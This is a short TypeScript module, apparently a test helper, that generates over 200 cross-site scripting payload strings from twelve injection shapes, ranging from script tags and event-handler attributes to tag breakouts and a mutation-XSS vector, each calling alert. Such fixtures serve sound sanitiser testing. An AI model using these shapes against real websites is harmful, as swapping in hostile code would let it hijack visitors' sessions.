const XSS_SHAPES = [
  (code: string) => `<script>${code}</script>`,
  (code: string) => `<img src=x onerror=${code}>`,
  (code: string) => `"><svg onload=${code}>`,
  (code: string) => `'><body onload=${code}>`,
  (code: string) => `" onfocus=${code} autofocus x="`,
  (code: string) => `</option></select><script>${code}</script>`,
  (code: string) => `</title><script>${code}</script>`,
  (code: string) => `</textarea><iframe srcdoc="<script>${code}</script>">`,
  (code: string) => `<a href="javascript:${code}">x</a>`,
  (code: string) => `--><script>${code}</script><!--`,
  (code: string) => `&lt;script&gt;${code}&lt;/script&gt;`,
  (code: string) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
]

/** More than 200 texts that call `alert` as markup. The first ones cover every shape. */
export const xssStrings = (): string[] =>
  Array.from({ length: 17 }, (_, index) => XSS_SHAPES.map((shape) => shape(`alert(${index})`))).flat()

export const oneOfEachShape = (): string[] => xssStrings().slice(0, XSS_SHAPES.length)
